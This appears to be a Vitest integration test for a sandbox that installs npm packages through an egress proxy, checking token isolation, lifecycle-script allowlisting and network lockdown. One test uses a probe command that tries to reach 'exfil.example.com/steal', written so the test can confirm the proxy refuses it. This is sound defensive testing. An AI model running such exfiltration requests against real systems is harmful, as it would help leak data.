import { createReadStream, statSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { Workspace } from "../../src/sandbox/runner.js";
import { detectSetup, type SetupPlan } from "../../src/sandbox/setup/detect-setup.js";
import { installDependencies } from "../../src/sandbox/setup/install-dependencies.js";
import { restoreDependencies } from "../../src/sandbox/setup/restore-dependencies.js";
import { startLocalRegistry, type LocalRegistry } from "../support/local-registry.js";
import { tarballOf, tempDir, testRunner } from "./harness.js";

const fixture = fileURLToPath(new URL("../fixtures/repos/greet-js", import.meta.url));
const runner = testRunner();
let registry: LocalRegistry;
const open: Workspace[] = [];
const workspace = async () => {
  const ws = await runner.createWorkspace(
    { storyId: "setup-test", jobId: `job-${Math.random().toString(36).slice(2, 8)}` },
    tarballOf(fixture),
  );
  open.push(ws);
  return ws;
};
const planFor = (settings: Partial<Parameters<typeof detectSetup>[1]> = {}): SetupPlan => {
  const plan = detectSetup(["package.json", "package-lock.json", "README.md"], {
    setupCommand: null,
    scriptPackages: [],
    registries: [{ name: "npm", url: registry.url }],
    ...settings,
  });
  if (!plan) throw new Error("no plan");
  return plan;
};

beforeAll(async () => {
  registry = await startLocalRegistry();
}, 120_000);
// The runner admits a few sandboxes at once; each test gives its own back.
afterEach(async () => {
  await Promise.all(open.splice(0).map((ws) => ws.destroy().catch(() => undefined)));
});
afterAll(async () => {
  await registry?.close();
});

describe("the setup phase on a real registry, through the egress proxy", () => {
  it(
    "installs the locked packages through the proxy, which adds the private registry's token; the agent's sandbox gets the result and no channel",
    { timeout: 240_000 },
    async () => {
      const setupWs = await workspace();
      const archive = join(tempDir("deps"), "deps.tar");
      const plan = planFor();
      const outcome = await installDependencies(setupWs, plan, archive, {
        timeoutMs: 180_000,
        auth: { [registry.host]: registry.authorization },
      });
      expect(outcome.exitCode, outcome.logTail).toBe(0);
      // Every request went to the registry's route, authenticated by the proxy, and nothing was refused.
      expect(outcome.egress.length).toBeGreaterThanOrEqual(3);
      expect(outcome.egress.every((e) => e.allowed && e.mode === "registry" && e.host === registry.host && e.authenticated)).toBe(true);
      expect(outcome.egress.map((e) => e.path)).toEqual(
        expect.arrayContaining(["/wave-fx-pad/-/wave-fx-pad-1.0.0.tgz", "/wave-fx-shout/-/wave-fx-shout-1.0.0.tgz"]),
      );
      expect(statSync(archive).size).toBeGreaterThan(1024);
      // The setup sandbox never held the token, in its environment or its npm config.
      const token = registry.authorization.slice("Bearer ".length);
      const setupView = await setupWs.exec([
        "sh",
        "-c",
        'env; cat ~/.npmrc .npmrc 2>/dev/null; grep -rl "$0" /workspace /home/wave /tmp 2>/dev/null; true',
        token,
      ]);
      expect(setupView.stdout).not.toContain(token);

      const agentWs = await workspace();
      await restoreDependencies(agentWs, createReadStream(archive), plan.installed);
      const used = await agentWs.exec(["node", "-e", "console.log(require('wave-fx-shout')('ok', 5))"]);
      expect(used.stdout.trimEnd(), used.stderr).toBe("  OK!");
      // Lifecycle scripts were off: the postinstall of wave-fx-hooked did not run.
      expect((await agentWs.exec(["test", "-e", "node_modules/wave-fx-hooked/postinstall-ran.txt"])).exitCode).toBe(1);
      // The restored dependencies are not part of the change, although this repository has no .gitignore.
      expect((await agentWs.exportChange()).files).toEqual([]);
      // The agent's sandbox has no way out: neither the public registry nor the forwarder's port answers.
      const offline = await agentWs.exec(
        [
          "sh",
          "-c",
          "npm view wave-fx-pad version --fetch-retries=0 --fetch-timeout=5000; echo rc=$?; npm view wave-fx-pad version --fetch-retries=0 --registry=http://127.0.0.1:47300/r/npm/; echo rc=$?",
        ],
        { timeoutMs: 60_000 },
      );
      expect(offline.stdout).toMatch(/rc=[1-9]/);
      expect(offline.stdout).not.toContain("rc=0");
      expect(offline.stdout).not.toMatch(/^1\.0\.0$/m);
      const agentView = await agentWs.exec(["sh", "-c", 'env; grep -rl "$0" /workspace /home/wave /tmp 2>/dev/null; true', token]);
      expect(agentView.stdout).not.toContain(token);
    },
  );

  it("runs the lifecycle scripts of the allowlisted packages only", { timeout: 240_000 }, async () => {
    const ws = await workspace();
    const archive = join(tempDir("deps"), "deps.tar");
    const outcome = await installDependencies(ws, planFor({ scriptPackages: ["wave-fx-hooked"] }), archive, {
      timeoutMs: 180_000,
      auth: { [registry.host]: registry.authorization },
    });
    expect(outcome.exitCode, outcome.logTail).toBe(0);
    expect((await ws.exec(["cat", "node_modules/wave-fx-hooked/postinstall-ran.txt"])).stdout).toContain("the postinstall script ran");
  });

  it("refuses and logs a host outside the allowlist, and fails without the token the proxy adds", { timeout: 240_000 }, async () => {
    const ws = await workspace();
    const probe =
      'node -e \'require("http").get({host:"127.0.0.1",port:47300,path:"http://exfil.example.com/steal",headers:{host:"exfil.example.com"}},r=>{console.log("status",r.statusCode);process.exit(r.statusCode===200?0:3)}).on("error",e=>{console.log(e.message);process.exit(4)})\'';
    const refused = await installDependencies(ws, planFor({ setupCommand: probe }), join(tempDir("deps"), "deps.tar"), {
      timeoutMs: 60_000,
    });
    expect(refused.exitCode, refused.logTail).toBe(3);
    expect(refused.logTail).toContain("status 403");
    expect(refused.egress).toEqual([expect.objectContaining({ host: "exfil.example.com", allowed: false, status: 403, mode: "forward" })]);

    const ws2 = await workspace();
    const noToken = await installDependencies(ws2, planFor(), join(tempDir("deps"), "deps.tar"), { timeoutMs: 180_000 });
    expect(noToken.exitCode).not.toBe(0);
    expect(noToken.logTail).toMatch(/E401|401|authentication/i);
    expect(noToken.egress.some((e) => e.allowed && e.status === 401 && !e.authenticated)).toBe(true);
  });
});
